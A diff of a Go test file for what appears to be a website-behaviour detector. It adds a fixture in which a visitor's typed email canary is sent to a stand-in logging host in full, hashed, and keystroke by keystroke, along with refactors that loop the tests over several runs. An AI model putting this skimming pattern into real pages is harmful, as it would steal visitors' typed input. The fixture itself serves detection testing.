@@ -2,6 +2,7 @@ package detectors
 
 import (
 	"math/rand/v2"
+	"net/url"
 	"reflect"
 	"regexp"
 	"slices"
@@ -24,7 +25,23 @@ func full() *maker {
 			m.choose()
 		}
 	}
+	m.another(evidence.Forms)
+	for range 2 {
+		m.typing()
+		if m.run.Chosen == nil {
+			m.choose()
+		}
+	}
 	return m
+}
+
+// typing does once what techniques look for that watch a visitor type.
+func (m *maker) typing() {
+	m.typed("email", canary)
+	m.request("fetch", "https://log.other.test/f?m="+url.QueryEscape(canary)).request("fetch", "https://log.other.test/h?m="+sha256Of(canary))
+	for i := range canary {
+		m.request("fetch", "https://log.other.test/k?k="+url.QueryEscape(canary[i:i+1]))
+	}
 }
 
 // acts does once what each technique looks for.
@@ -78,24 +95,27 @@ var placeholder = regexp.MustCompile(`\{(\w+)\}`)
 func TestFindingsAreComplete(t *testing.T) {
 	m := full()
 	known := map[evidence.ID]bool{}
-	for i := range m.run.Calls {
-		known[m.run.Calls[i].ID] = true
-	}
-	for i := range m.run.Requests {
-		known[m.run.Requests[i].ID] = true
-	}
-	for _, s := range m.run.Sockets {
-		known[s.ID] = true
-	}
-	for i := range m.run.Cookies {
-		known[m.run.Cookies[i].ID] = true
-	}
-	for i := range m.run.Storage {
-		known[m.run.Storage[i].ID] = true
-	}
-	for _, look := range m.run.Returns {
-		for i := range look.Cookies {
-			known[look.Cookies[i].ID] = true
+	for i := range m.v.Runs {
+		run := &m.v.Runs[i]
+		for i := range run.Calls {
+			known[run.Calls[i].ID] = true
+		}
+		for i := range run.Requests {
+			known[run.Requests[i].ID] = true
+		}
+		for _, s := range run.Sockets {
+			known[s.ID] = true
+		}
+		for i := range run.Cookies {
+			known[run.Cookies[i].ID] = true
+		}
+		for i := range run.Storage {
+			known[run.Storage[i].ID] = true
+		}
+		for _, look := range run.Returns {
+			for i := range look.Cookies {
+				known[look.Cookies[i].ID] = true
+			}
 		}
 	}
 	for _, f := range Run(m.v, db(t), Options{}).Findings {
@@ -157,23 +177,26 @@ func TestDocs(t *testing.T) {
 // What a technique does not declare it must not use: without it the answer
 // stays the same.
 func TestNeedsAreComplete(t *testing.T) {
-	remove := map[evidence.Kind]func(*evidence.Visit){
-		evidence.KindPage:     func(v *evidence.Visit) { v.Runs[0].Pages = nil },
-		evidence.KindRequests: func(v *evidence.Visit) { v.Runs[0].Requests, v.Runs[0].Sockets = nil, nil },
-		evidence.KindCookies:  func(v *evidence.Visit) { v.Runs[0].Cookies = nil },
-		evidence.KindStorage:  func(v *evidence.Visit) { v.Runs[0].Storage = nil },
-		evidence.KindCalls:    func(v *evidence.Visit) { v.Runs[0].Calls = nil },
-		evidence.KindScripts:  func(v *evidence.Visit) { v.Runs[0].Scripts = nil },
-		evidence.KindNames:    func(v *evidence.Visit) { v.Names = nil },
-		evidence.KindShots:    func(v *evidence.Visit) { v.Runs[0].Shots = nil },
-		evidence.KindReturns:  func(v *evidence.Visit) { v.Runs[0].Returns = nil },
+	remove := map[evidence.Kind]func(*evidence.Visit, *evidence.Run){
+		evidence.KindPage:     func(_ *evidence.Visit, r *evidence.Run) { r.Pages = nil },
+		evidence.KindRequests: func(_ *evidence.Visit, r *evidence.Run) { r.Requests, r.Sockets = nil, nil },
+		evidence.KindCookies:  func(_ *evidence.Visit, r *evidence.Run) { r.Cookies = nil },
+		evidence.KindStorage:  func(_ *evidence.Visit, r *evidence.Run) { r.Storage = nil },
+		evidence.KindCalls:    func(_ *evidence.Visit, r *evidence.Run) { r.Calls = nil },
+		evidence.KindScripts:  func(_ *evidence.Visit, r *evidence.Run) { r.Scripts = nil },
+		evidence.KindNames:    func(v *evidence.Visit, _ *evidence.Run) { v.Names = nil },
+		evidence.KindShots:    func(_ *evidence.Visit, r *evidence.Run) { r.Shots = nil },
+		evidence.KindTyped:    func(_ *evidence.Visit, r *evidence.Run) { r.Typed = nil },
+		evidence.KindReturns:  func(_ *evidence.Visit, r *evidence.Run) { r.Returns = nil },
 	}
 	for _, x := range All() {
 		opts := Options{Only: []string{x.ID}}
 		before := Run(full().v, db(t), opts)
 		for kind, cut := range remove {
 			m := full()
-			cut(m.v)
+			for i := range m.v.Runs {
+				cut(m.v, &m.v.Runs[i])
+			}
 			after := Run(m.v, db(t), opts)
 			if slices.Contains(x.Needs, kind) {
 				continue
@@ -191,11 +214,13 @@ func TestDeterminism(t *testing.T) {
 	for seed := range uint64(5) {
 		m := full()
 		r := rand.New(rand.NewPCG(seed, 1))
-		run := m.run
-		r.Shuffle(len(run.Calls), func(i, j int) { run.Calls[i], run.Calls[j] = run.Calls[j], run.Calls[i] })
-		r.Shuffle(len(run.Requests), func(i, j int) { run.Requests[i], run.Requests[j] = run.Requests[j], run.Requests[i] })
-		r.Shuffle(len(run.Cookies), func(i, j int) { run.Cookies[i], run.Cookies[j] = run.Cookies[j], run.Cookies[i] })
-		r.Shuffle(len(run.Storage), func(i, j int) { run.Storage[i], run.Storage[j] = run.Storage[j], run.Storage[i] })
+		for i := range m.v.Runs {
+			run := &m.v.Runs[i]
+			r.Shuffle(len(run.Calls), func(i, j int) { run.Calls[i], run.Calls[j] = run.Calls[j], run.Calls[i] })
+			r.Shuffle(len(run.Requests), func(i, j int) { run.Requests[i], run.Requests[j] = run.Requests[j], run.Requests[i] })
+			r.Shuffle(len(run.Cookies), func(i, j int) { run.Cookies[i], run.Cookies[j] = run.Cookies[j], run.Cookies[i] })
+			r.Shuffle(len(run.Storage), func(i, j int) { run.Storage[i], run.Storage[j] = run.Storage[j], run.Storage[i] })
+		}
 		if got := Run(m.v, db(t), Options{}); !reflect.DeepEqual(got, first) {
 			t.Fatalf("seed %d: another judgement", seed)
 		}
